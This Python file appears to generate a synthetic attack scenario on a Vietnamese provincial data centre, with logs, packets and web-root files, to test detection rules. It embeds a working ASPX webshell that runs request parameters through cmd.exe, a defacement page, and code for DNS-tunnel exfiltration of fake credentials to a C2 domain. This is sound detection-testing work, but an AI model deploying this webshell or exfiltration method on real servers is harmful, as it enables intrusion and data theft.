"""A provincial data centre under attack, generated deterministically.

The scenario is written as the data centre's own systems would produce it:
packets (scapy) for the sensor, syslog messages from the Linux servers, an IIS
W3C log and an nginx access log from the portals, Winlogbeat JSON lines from the
Windows servers, and files written into the portal's web root. The same seed
always gives the same bytes.

The story (times from the start of the scenario):

======  ==========================================================================
+0:10   reconnaissance: 45.77.12.201 scans ports 1-600 of the portal (10.10.1.10)
+0:30   SSH brute force against the LGSP gateway, then a successful login
+1:00   a webshell (ASPX) uploaded through the portal and written to its web root
+1:05   the webshell used: w3wp.exe runs cmd.exe /c whoami and net user
+1:20   a new account on the domain controller, added to Administrators
+2:00   an infected workstation beacons every minute to 103.97.125.18:443 and
        tunnels data out through DNS queries to cdn-telemetry-sync.com
+3:10   the portal's home page replaced by a defacement page
======  ==========================================================================

around hours of normal traffic: citizens on the portal and the one-stop-shop,
administrators logging in, mail, workstations resolving names and browsing.
"""

from __future__ import annotations

import base64
import hashlib
import random
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import orjson

START = datetime(2026, 11, 20, 1, 0, tzinfo=UTC)  # 08:00 in Hà Nội
HOURS = 4

ATTACKER = "45.77.12.201"
C2_IP = "103.97.125.18"
TUNNEL_DOMAIN = "cdn-telemetry-sync.com"
PORTAL = ("portal01", "10.10.1.10")
MOTCUA = ("motcua01", "10.10.1.20")
LGSP = ("lgsp-gw01", "10.10.1.30")
MAIL = ("mail01", "10.10.1.40")
DC = ("dc01", "10.10.2.10")
RESOLVER = "10.10.0.53"
INFECTED = "10.10.30.44"
WORKSTATIONS = [f"10.10.30.{i}" for i in range(20, 60) if i != 44]
ADMIN_IP = "10.10.5.20"
DOMAIN = "sotttt.local"

WEBSHELL_ASPX = """<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
void Page_Load(object sender, EventArgs e) {
    var p = new Process();
    p.StartInfo = new ProcessStartInfo("cmd.exe", "/c " + Request["cmd"]);
    p.StartInfo.UseShellExecute = false;
    p.StartInfo.RedirectStandardOutput = true;
    p.Start();
    Response.Write("<pre>" + Server.HtmlEncode(p.StandardOutput.ReadToEnd()) + "</pre>");
}
</script>
"""

DEFACED_PAGE = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Hacked by Shadow Team</title></head>
<body style="background:#000;color:#0f0;text-align:center">
<h1>Hacked by Shadow Team</h1>
<p>Your security is low. Website đã bị tấn công. We were here.</p>
<p>Greetz: all Indonesian &amp; Vietnamese cyber army</p>
</body></html>
"""

NORMAL_PAGE = """<!DOCTYPE html>
<html lang="vi"><head><meta charset="utf-8"><title>Cổng Dịch vụ công tỉnh</title></head>
<body><h1>Cổng Dịch vụ công trực tuyến</h1>
<p>Nộp hồ sơ, tra cứu kết quả giải quyết thủ tục hành chính.</p></body></html>
"""

PORTAL_PATHS = ["/", "/dich-vu-cong/nop-ho-so.aspx", "/tra-cuu-ho-so.aspx",
                "/thu-tuc-hanh-chinh.aspx", "/tin-tuc/thong-bao.aspx", "/css/site.css",
                "/js/site.js", "/images/logo.png", "/lien-he.aspx"]
MOTCUA_PATHS = ["/", "/mot-cua/tiep-nhan", "/mot-cua/tra-ket-qua", "/api/lgsp/v1/ho-so",
                "/static/app.js", "/static/app.css"]
BROWSE_SITES = ["vnexpress.net", "dichvucong.gov.vn", "baochinhphu.vn", "google.com",
                "youtube.com", "zalo.me", "microsoft.com", "office.com", "thuvienphapluat.vn",
                "mic.gov.vn", "tuoitre.vn", "github.com"]
UA_BROWSER = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
              "(KHTML, like Gecko) Chrome/131.0 Safari/537.36")
UA_MOBILE = ("Mozilla/5.0 (Linux; Android 14; SM-A546E) AppleWebKit/537.36 "
             "(KHTML, like Gecko) Chrome/131.0 Mobile Safari/537.36")


@dataclass
class Scenario:
    """Everything the scenario delivers, in delivery order per channel."""

    #: RFC 5424 syslog messages (bytes) with their scenario time, for UDP/TCP
    syslog: list[tuple[datetime, str, bytes]] = field(default_factory=list)
    iis_log: list[str] = field(default_factory=list)
    nginx_log: list[str] = field(default_factory=list)
    winlog: list[dict[str, Any]] = field(default_factory=list)
    #: (scenario time, relative path in the web root, content)
    web_root_writes: list[tuple[datetime, str, str]] = field(default_factory=list)
    #: (time, scapy packet) — written as one capture
    packets: list[tuple[float, Any]] = field(default_factory=list)

    def write(self, directory: Path) -> dict[str, Path]:
        """Write the file-based parts; returns their paths."""
        directory.mkdir(parents=True, exist_ok=True)
        paths = {"iis": directory / "u_ex261120.log", "nginx": directory / "access.log",
                 "winlog": directory / "winlogbeat.ndjson",
                 "pcap": directory / "sensor-dmz.pcap"}
        header = ["#Software: Microsoft Internet Information Services 10.0",
                  "#Version: 1.0", "#Date: 2026-11-20 01:00:00",
                  "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port "
                  "cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus "
                  "sc-win32-status time-taken"]
        paths["iis"].write_text("\n".join(header + self.iis_log) + "\n", encoding="utf-8")
        paths["nginx"].write_text("\n".join(self.nginx_log) + "\n", encoding="utf-8")
        with paths["winlog"].open("wb") as out:
            for record in self.winlog:
                out.write(orjson.dumps(record) + b"\n")
        write_capture(paths["pcap"], self.packets)
        return paths


def write_capture(path: Path, packets: list[tuple[float, Any]]) -> None:
    from scapy.utils import PcapWriter

    writer = PcapWriter(str(path), linktype=1, sync=False)
    try:
        for when, packet in sorted(packets, key=lambda p: p[0]):
            packet.time = when
            writer.write(packet)
    finally:
        writer.close()


def _ts(moment: datetime) -> str:
    return moment.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"


class _Builder:
    def __init__(self, seed: int) -> None:
        self.rnd = random.Random(seed)
        self.s = Scenario()
        self.record_ids: dict[str, int] = {}
        self.sport = 30000

    # -- syslog -------------------------------------------------------------
    def syslog(self, when: datetime, host: str, app: str, pid: int, text: str,
               facility: int = 4, severity: int = 6) -> None:
        pri = facility * 8 + severity
        msg = f"<{pri}>1 {_ts(when)} {host} {app} {pid} - - {text}"
        self.s.syslog.append((when, host, msg.encode("utf-8")))

    # -- web logs -------------------------------------------------------------
    def iis(self, when: datetime, method: str, path: str, query: str, client: str,
            status: int, agent: str = UA_BROWSER) -> None:
        self.s.iis_log.append(
            f"{when:%Y-%m-%d %H:%M:%S} {PORTAL[1]} {method} {path} {query or '-'} 443 - "
            f"{client} {agent.replace(' ', '+')} - {status} 0 0 {self.rnd.randint(15, 400)}")

    def nginx(self, when: datetime, method: str, path: str, client: str, status: int,
              agent: str = UA_MOBILE) -> None:
        self.s.nginx_log.append(
            f'{client} - - [{when:%d/%b/%Y:%H:%M:%S +0000}] "{method} {path} HTTP/1.1" '
            f'{status} {self.rnd.randint(400, 60000)} "-" "{agent}"')

    # -- Windows -------------------------------------------------------------
    def win(self, when: datetime, host: str, channel: str, event_id: int,
            data: dict[str, Any], provider: str) -> None:
        computer = f"{host}.{DOMAIN}"
        record_id = self.record_ids.get(computer + channel, 1000)
        self.record_ids[computer + channel] = record_id + 1
        self.s.winlog.append({
            "@timestamp": _ts(when),
            "agent": {"type": "winlogbeat", "version": "8.15.0"},
            "host": {"name": computer},
            "event": {"code": str(event_id), "provider": provider,
                      "created": _ts(when)},
            "winlog": {"channel": channel, "event_id": event_id, "computer_name": computer,
                       "record_id": record_id, "provider_name": provider,
                       "event_data": {k: str(v) for k, v in data.items()}},
        })

    def sysmon(self, when: datetime, host: str, event_id: int, data: dict[str, Any]) -> None:
        self.win(when, host, "Microsoft-Windows-Sysmon/Operational", event_id,
                 {"UtcTime": f"{when:%Y-%m-%d %H:%M:%S.%f}"[:-3], **data},
                 "Microsoft-Windows-Sysmon")

    def security(self, when: datetime, host: str, event_id: int, data: dict[str, Any]) -> None:
        self.win(when, host, "Security", event_id, data, "Microsoft-Windows-Security-Auditing")

    # -- packets -------------------------------------------------------------
    def _port(self) -> int:
        self.sport = 30000 + (self.sport - 29999) % 30000
        return self.sport

    def tcp_session(self, when: datetime, src: str, dst: str, dport: int,
                    request: bytes = b"", response: bytes = b"") -> None:
        from scapy.layers.inet import IP, TCP
        from scapy.layers.l2 import Ether

        t = when.timestamp()
        sport = self._port()
        e = Ether(src="00:50:56:00:00:01", dst="00:50:56:00:00:02")
        r = Ether(src="00:50:56:00:00:02", dst="00:50:56:00:00:01")
        seq, ack = self.rnd.randint(1, 2**31), self.rnd.randint(1, 2**31)
        pk = self.s.packets
        pk.append((t, e / IP(src=src, dst=dst) / TCP(sport=sport, dport=dport, flags="S",
                                                     seq=seq)))
        pk.append((t + 0.01, r / IP(src=dst, dst=src) / TCP(sport=dport, dport=sport,
                                                            flags="SA", seq=ack, ack=seq + 1)))
        pk.append((t + 0.02, e / IP(src=src, dst=dst) / TCP(sport=sport, dport=dport,
                                                            flags="A", seq=seq + 1,
                                                            ack=ack + 1)))
        seq += 1
        ack += 1
        if request:
            pk.append((t + 0.03, e / IP(src=src, dst=dst) / TCP(
                sport=sport, dport=dport, flags="PA", seq=seq, ack=ack) / request))
            seq += len(request)
        if response:
            pk.append((t + 0.05, r / IP(src=dst, dst=src) / TCP(
                sport=dport, dport=sport, flags="PA", seq=ack, ack=seq) / response))
            ack += len(response)
        pk.append((t + 0.06, e / IP(src=src, dst=dst) / TCP(sport=sport, dport=dport,
                                                            flags="FA", seq=seq, ack=ack)))
        pk.append((t + 0.07, r / IP(src=dst, dst=src) / TCP(sport=dport, dport=sport,
                                                            flags="FA", seq=ack, ack=seq + 1)))
        pk.append((t + 0.08, e / IP(src=src, dst=dst) / TCP(sport=sport, dport=dport,
                                                            flags="A", seq=seq + 1,
                                                            ack=ack + 1)))

    def refused(self, when: datetime, src: str, dst: str, dport: int, answer: bool) -> None:
        from scapy.layers.inet import IP, TCP
        from scapy.layers.l2 import Ether

        t = when.timestamp()
        sport = 40000 + dport % 20000
        self.s.packets.append((t, Ether() / IP(src=src, dst=dst) / TCP(
            sport=sport, dport=dport, flags="S", seq=1000)))
        if answer:
            self.s.packets.append((t + 0.001, Ether() / IP(src=dst, dst=src) / TCP(
                sport=dport, dport=sport, flags="RA", seq=0, ack=1001)))

    def dns(self, when: datetime, client: str, name: str, qtype: str = "A",
            answer: str | None = "203.0.113.80") -> None:
        from scapy.layers.dns import DNS, DNSQR, DNSRR
        from scapy.layers.inet import IP, UDP
        from scapy.layers.l2 import Ether

        t = when.timestamp()
        qid = self.rnd.randint(1, 65535)
        sport = self._port()
        query = Ether() / IP(src=client, dst=RESOLVER) / UDP(sport=sport, dport=53) / DNS(
            id=qid, rd=1, qd=DNSQR(qname=name, qtype=qtype))
        self.s.packets.append((t, query))
        if answer is not None:
            an = DNSRR(rrname=name, type=qtype, ttl=300,
                       rdata=answer if qtype == "A" else answer.encode())
            self.s.packets.append((t + 0.004, Ether() / IP(src=RESOLVER, dst=client) / UDP(
                sport=53, dport=sport) / DNS(id=qid, qr=1, rd=1, ra=1, qd=DNSQR(
                    qname=name, qtype=qtype), an=an)))


def _minutes(n: float) -> timedelta:
    return timedelta(minutes=n)


def build(seed: int = 20261120) -> Scenario:
    """The whole scenario: background for :data:`HOURS` hours and the attack story."""
    b = _Builder(seed)
    rnd = b.rnd
    end = START + timedelta(hours=HOURS)
    citizens = [f"113.{rnd.randint(160, 191)}.{rnd.randint(0, 255)}.{rnd.randint(1, 254)}"
                for _ in range(120)]

    # ---------------------------------------------------------------- background
    t = START
    while t < end:
        t += timedelta(seconds=rnd.randint(4, 20))
        client = rnd.choice(citizens)
        path = rnd.choice(PORTAL_PATHS)
        b.iis(t, "GET", path, "", client, rnd.choice([200] * 12 + [304, 404]),
              rnd.choice([UA_BROWSER, UA_MOBILE]))
        if rnd.random() < 0.6:
            b.nginx(t + timedelta(seconds=2), rnd.choice(["GET"] * 5 + ["POST"]),
                    rnd.choice(MOTCUA_PATHS), rnd.choice(citizens), rnd.choice([200] * 9 + [302]))
        if rnd.random() < 0.05:
            b.iis(t, "POST", "/dang-nhap.aspx", "", client, 302)
    for i in range(12):  # administrators' work
        when = START + _minutes(15 + i * 19)
        b.syslog(when, LGSP[0], "sshd", 2000 + i,
                 f"Accepted publickey for quantri from {ADMIN_IP} port {50000 + i} ssh2: "
                 f"ED25519 SHA256:Yx3f0adminkey")
        b.syslog(when + _minutes(1), LGSP[0], "sudo", 2100 + i,
                 "quantri : TTY=pts/0 ; PWD=/home/quantri ; USER=root ; "
                 "COMMAND=/usr/bin/systemctl status lgsp-gateway")
        if i % 4 == 1:  # a mistyped password now and then
            b.syslog(when - _minutes(1), LGSP[0], "sshd", 2050 + i,
                     f"Failed password for quantri from {ADMIN_IP} port {51000 + i} ssh2")
    for i in range(40):  # mail
        when = START + _minutes(i * 6 + rnd.randint(0, 4))
        qid = hashlib.sha1(str(i).encode()).hexdigest()[:10].upper()  # noqa: S324 - queue id
        b.syslog(when, MAIL[0], "postfix/smtpd", 3000 + i,
                 f"{qid}: client=unknown[113.161.{i}.20], sasl_method=LOGIN, "
                 f"sasl_username=vanthu{i % 5}@{DOMAIN}", facility=2)
    for i in range(60):  # Windows logons and processes
        when = START + _minutes(i * 4 + 1)
        b.security(when, DC[0], 4624, {
            "TargetUserName": f"canbo{i % 15:02d}", "TargetDomainName": "SOTTTT",
            "LogonType": 3, "IpAddress": rnd.choice(WORKSTATIONS), "IpPort": 0,
            "LogonProcessName": "Kerberos", "AuthenticationPackageName": "Kerberos"})
        b.sysmon(when, PORTAL[0], 1, {
            "Image": r"C:\Windows\System32\svchost.exe",
            "CommandLine": r"C:\Windows\system32\svchost.exe -k netsvcs -p",
            "ParentImage": r"C:\Windows\System32\services.exe",
            "User": r"NT AUTHORITY\SYSTEM", "IntegrityLevel": "System",
            "ProcessId": 4000 + i, "ParentProcessId": 640})
        if i % 10 == 0:
            b.sysmon(when, PORTAL[0], 11, {
                "Image": r"C:\Program Files\IIS\Microsoft Web Deploy V3\msdeploy.exe",
                "TargetFilename": r"C:\inetpub\wwwroot\tin-tuc\thong-bao.aspx",
                "ProcessId": 5100})
    for i in range(300):  # workstations: names and browsing
        when = START + timedelta(seconds=i * 47 + rnd.randint(0, 30))
        ws = rnd.choice(WORKSTATIONS)
        site = rnd.choice(BROWSE_SITES)
        b.dns(when, ws, f"www.{site}", answer=f"203.0.113.{BROWSE_SITES.index(site) + 10}")
        if i % 3 == 0:
            b.tcp_session(when + timedelta(seconds=1), ws,
                          f"203.0.113.{BROWSE_SITES.index(site) + 10}", 443,
                          b"\x16\x03\x01\x00\x05hello", b"\x16\x03\x03\x00\x05world")
    for i in range(80):  # citizens reaching the portal over HTTPS (sensor in the DMZ)
        when = START + timedelta(seconds=i * 170 + rnd.randint(0, 60))
        b.tcp_session(when, rnd.choice(citizens), PORTAL[1], 443,
                      b"\x16\x03\x01\x00\x05hello", b"\x16\x03\x03\x00\x05world")

    # ---------------------------------------------------------------- the attack
    scan = START + _minutes(10)
    open_ports = {80, 443, 3389}
    for port in range(1, 601):
        when = scan + timedelta(milliseconds=port * 40)
        if port in open_ports:
            b.tcp_session(when, ATTACKER, PORTAL[1], port)
        else:
            b.refused(when, ATTACKER, PORTAL[1], port, answer=port % 3 != 0)

    brute = START + _minutes(30)
    users = ["root", "admin", "lgsp", "oracle", "ubuntu", "test", "quantri"]
    for i in range(40):
        user = users[i % len(users)]
        invalid = "" if user in ("root", "quantri") else "invalid user "
        b.syslog(brute + timedelta(seconds=3 * i), LGSP[0], "sshd", 4100 + i,
                 f"Failed password for {invalid}{user} from {ATTACKER} port {41000 + i} ssh2")
    b.syslog(brute + _minutes(2.5), LGSP[0], "sshd", 4199,
             f"Accepted password for root from {ATTACKER} port 41999 ssh2")

    upload = START + _minutes(60)
    b.iis(upload, "POST", "/ho-so/tai-len.aspx", "", ATTACKER, 200, "python-requests/2.31")
    b.sysmon(upload + timedelta(seconds=1), PORTAL[0], 11, {
        "Image": r"C:\Windows\System32\inetsrv\w3wp.exe",
        "TargetFilename": r"C:\inetpub\wwwroot\uploads\avatar.aspx", "ProcessId": 3120})
    b.s.web_root_writes.append((upload + timedelta(seconds=1), "uploads/avatar.aspx",
                                WEBSHELL_ASPX))
    for n, (cmd, image) in enumerate([("whoami", "whoami.exe"), ("net user", "net.exe"),
                                      ("net localgroup administrators", "net.exe")]):
        when = upload + _minutes(5 + n)
        b.iis(when, "GET", "/uploads/avatar.aspx", f"cmd={cmd.replace(' ', '+')}",
              ATTACKER, 200, "python-requests/2.31")
        b.sysmon(when + timedelta(seconds=1), PORTAL[0], 1, {
            "Image": r"C:\Windows\System32\cmd.exe", "CommandLine": f"cmd.exe /c {cmd}",
            "ParentImage": r"C:\Windows\System32\inetsrv\w3wp.exe",
            "ParentCommandLine": r"c:\windows\system32\inetsrv\w3wp.exe -ap DefaultAppPool",
            "User": r"IIS APPPOOL\DefaultAppPool", "IntegrityLevel": "High",
            "ProcessId": 6000 + n, "ParentProcessId": 3120})
        b.sysmon(when + timedelta(seconds=2), PORTAL[0], 1, {
            "Image": rf"C:\Windows\System32\{image}", "CommandLine": cmd,
            "ParentImage": r"C:\Windows\System32\cmd.exe",
            "User": r"IIS APPPOOL\DefaultAppPool", "IntegrityLevel": "High",
            "ProcessId": 6100 + n, "ParentProcessId": 6000 + n})

    account = START + _minutes(80)
    b.security(account, DC[0], 4720, {
        "TargetUserName": "svc_backup", "TargetDomainName": "SOTTTT",
        "TargetSid": "S-1-5-21-3623811015-3361044348-30300820-1655",
        "SubjectUserName": "Administrator", "SubjectDomainName": "SOTTTT"})
    b.security(account + timedelta(seconds=20), DC[0], 4732, {
        "MemberName": "CN=svc_backup,CN=Users,DC=sotttt,DC=local",
        "MemberSid": "S-1-5-21-3623811015-3361044348-30300820-1655",
        "TargetUserName": "Administrators", "TargetDomainName": "Builtin",
        "TargetSid": "S-1-5-32-544", "SubjectUserName": "Administrator",
        "SubjectDomainName": "SOTTTT"})

    beacon = START + _minutes(120)
    for i in range(50):
        when = beacon + timedelta(seconds=60 * i + rnd.uniform(-2, 2))
        b.tcp_session(when, INFECTED, C2_IP, 443, b"\x16\x03\x01\x00\x04ping",
                      b"\x16\x03\x03\x00\x04pong")
    secret = ("Danh sach ho so can bo va mat khau he thong LGSP: quantri/Lgsp@2026; "
              "db_lgsp/Sotttt#123. ") * 3
    chunks = base64.b32encode(secret.encode()).decode().rstrip("=").lower()
    for i in range(0, min(len(chunks), 50 * 12), 50):
        when = beacon + _minutes(30) + timedelta(seconds=i // 5)
        b.dns(when, INFECTED, f"{chunks[i:i + 50]}.{i // 50}.{TUNNEL_DOMAIN}", "TXT", "ok")

    deface = START + _minutes(190)
    b.sysmon(deface, PORTAL[0], 11, {
        "Image": r"C:\Windows\System32\cmd.exe",
        "TargetFilename": r"C:\inetpub\wwwroot\index.html", "ProcessId": 6200})
    b.s.web_root_writes.append((deface, "index.html", DEFACED_PAGE))
    b.s.syslog.sort(key=lambda item: item[0])
    b.s.iis_log.sort()
    b.s.winlog.sort(key=lambda r: r["@timestamp"])
    return b.s


#: What the story must raise: (stage, rule name fragment, minimum severity).
EXPECTED_ALERTS: list[tuple[str, str, str]] = [
    ("reconnaissance", "Port Scan", "medium"),
    ("ssh brute force", "SSH Brute Force - Many Failed", "medium"),
    ("ssh login after the brute force", "Followed by a Successful Login", "high"),
    ("webshell upload", "Webshell Upload", "high"),
    ("webshell file", "GOVSOC_Webshell_ASPX", "high"),
    ("webshell use", "Webshell Execution", "high"),
    ("new privileged account", "New Admin", "high"),
    ("dns tunnelling", "DNS Tunnelling", "high"),
    ("beaconing", "Beaconing", "medium"),
    ("defacement", "Defacement", "medium"),
    ("defacement page", "GOVSOC_Defacement", "high"),
]

NORMAL_PAGE_PATH = "index.html"
